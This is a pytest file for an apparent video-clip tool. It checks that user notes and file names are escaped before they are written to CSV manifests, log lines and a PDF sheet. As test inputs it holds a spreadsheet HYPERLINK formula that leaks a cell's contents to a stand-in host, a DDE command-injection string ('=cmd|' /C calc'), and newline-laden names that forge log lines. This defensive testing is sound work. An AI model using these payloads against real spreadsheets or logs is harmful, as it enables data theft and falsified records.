"""Issue 24, item 7: text a guider typed or a file was named with is made safe for the files vigclips writes: spreadsheet
cells (``clips/manifest.csv``, ``summary.csv``), log lines (``batch.log``) and the parent's sheet (PDF)."""

from __future__ import annotations

import csv
import io
import shutil
from fractions import Fraction
from pathlib import Path

import pytest

from vigclips.batch.summary import RecordingResult, format_event, write_summary
from vigclips.export import export_clips
from vigclips.export.sheet import write_contact_sheet
from vigclips.media import probe
from vigclips.results.decisions import DecisionStore
from vigclips.results.moments import build_document, sha256_file, source_record, write_moments
from vigclips.review.batch_page import _failed_in_summary
from vigclips.safetext import csv_cell, from_csv_cell, log_text

FORMULA_NOTE = '=HYPERLINK("http://example.invalid/?leak="&A1,"see the clip")'


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1-1", "@SUM(A1)", "\t=1", "\r=1", "'quoted"])
def test_a_cell_that_a_spreadsheet_would_run_gets_an_apostrophe_and_reads_back(text):
    cell = csv_cell(text)
    assert cell.startswith("'") and from_csv_cell(cell) == text.replace("\r", "\n")
    assert csv_cell("she waits, then smiles") == "she waits, then smiles"  # ordinary text as written


def test_manifest_of_a_formula_note_and_file_name_is_text_in_a_spreadsheet(lavfi_clip, tmp_path):
    src = tmp_path / "@SUM(1+1) play.mp4"  # a recording named like a formula
    shutil.copy(lavfi_clip("formula.mp4", seconds=3.0), src)
    info = probe(src)
    folder = tmp_path / "out" / src.stem
    folder.mkdir(parents=True)
    records = [{"id": "m01", "rank": 1, "start_s": 0.5, "end_s": 2.0, "score": 0.5, "reasons": ["-turns taken"],
                "scores": {"developing": 0.7}, "status": "candidate", "still": None}]  # fmt: skip
    write_moments(folder / "moments.json", build_document(source_record(info, sha256_file(src)), Fraction(10), {}, {}, records))
    note = FORMULA_NOTE + "\nsecond line\x07\x1b[31m"
    DecisionStore(folder).decide(0, "m01", {"status": "confirmed", "note": note})
    clips = export_clips(folder, source=src, contact_sheet=True)
    (row,) = _rows(folder / "clips" / "manifest.csv")
    assert row["note"] == "'" + FORMULA_NOTE + "\nsecond line[31m"  # apostrophe, line kept, control characters dropped
    assert row["source_file"] == "'@SUM(1+1) play.mp4" and row["clip_file"] == "'" + clips[0].name
    assert row["reasons"] == "'-turns taken"
    assert row["start_s"] == "0.500" and row["rank"] == "1"  # numbers untouched
    assert (folder / "clips" / "contact_sheet.pdf").stat().st_size > 1000  # the note with control characters drawn


def test_summary_csv_neutralises_formulas_and_the_batch_page_reads_it_back(tmp_path):
    out = tmp_path / "OUT"
    out.mkdir()
    failed = RecordingResult(Path("/media/=cmd|' /C calc'!A0.mp4"), out / "=cmd|' /C calc'!A0", "failed",
                             error="-2+3 is not a recording")  # fmt: skip
    write_summary(out, [failed])
    (row,) = _rows(out / "summary.csv")
    assert row["folder"] == "'=cmd|' /C calc'!A0" and row["error"] == "'-2+3 is not a recording"
    assert row["recording"] == "/media/=cmd|' /C calc'!A0.mp4"  # does not start with a formula prefix: as it was
    (back,) = _failed_in_summary(out)
    assert back["folder"] == "=cmd|' /C calc'!A0" and back["error"] == "-2+3 is not a recording"


def test_a_file_name_with_a_newline_cannot_forge_a_line_of_the_batch_log():
    forged = "a\n2026-11-25T02:00:00Z [1/1] b: done in 3 s, 5 candidate(s)"
    line = format_event({"event": "recording_failed", "time_utc": "2026-11-25T02:00:00Z", "folder": forged, "finished": 1,
                         "total": 2, "error": f"{forged}.mp4: not a recording\r\n", "eta_s": None})  # fmt: skip
    assert "\n" not in line and "\r" not in line
    assert line.startswith("2026-11-25T02:00:00Z [1/2] a\\n2026-11-25T02:00:00Z [1/1] b: done")  # visible, one line
    assert log_text("tab\there\x00") == "tab\\there"


def test_the_parents_sheet_draws_a_note_with_control_characters_and_broken_unicode(tmp_path):
    entries = [{"image": None, "label": "1", "start_s": 1.0, "end_s": 3.0, "principles": [],
                "note": "she waits\x00\x07\x1b[0m\x0b and \ud800 smiles\r\nnext line"}]  # fmt: skip
    pages = write_contact_sheet(entries, tmp_path / "sheet.png", "play\x00\n1")
    assert [p.name for p in pages] == ["sheet.png", "sheet.pdf"] and (tmp_path / "sheet.pdf").stat().st_size > 1000


def test_an_error_about_a_file_name_with_a_line_break_is_still_one_line(tmp_path):
    from click.testing import CliRunner

    from vigclips.cli import main

    folder = tmp_path / "play\nerror: everything is fine"
    folder.mkdir()
    result = CliRunner().invoke(main, ["export", str(folder)])
    assert result.exit_code == 2
    assert result.output.count("\n") == 1 and "play\\nerror: everything is fine" in result.output


def test_log_lines_on_the_terminal_stay_one_line_each():
    import logging

    from vigclips.cli import _OneLineFormatter

    record = logging.LogRecord("vigclips", logging.WARNING, __file__, 1, "%s: removed", ("clip\nWARNING: forged",), None)
    assert _OneLineFormatter("%(levelname)s: %(message)s").format(record) == "WARNING: clip\\nWARNING: forged: removed"


def test_a_batch_over_a_recording_named_like_a_formula_and_a_log_line(tmp_path):
    import re

    from click.testing import CliRunner

    from vigclips.cli import main

    inputs = tmp_path / "IN"
    inputs.mkdir()
    (inputs / "=cmd\n2026-01-01T00:00:00Z forged: done.mp4").write_text("not a video")  # fails fast: not a recording
    result = CliRunner().invoke(main, ["batch", str(inputs), "-o", str(tmp_path / "OUT"), "--workers", "1"])
    assert result.exit_code == 1, result.output  # the recording failed, as it should
    log_lines = (tmp_path / "OUT" / "batch.log").read_text(encoding="utf-8").splitlines()
    assert all(re.match(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ ", line) for line in log_lines), log_lines
    assert not any(line.startswith("2026-01-01T00:00:00Z") for line in log_lines)  # the forged line is not a line
    (row,) = _rows(tmp_path / "OUT" / "summary.csv")
    assert row["folder"] == "'=cmd\n2026-01-01T00:00:00Z forged: done" and row["status"] == "failed"
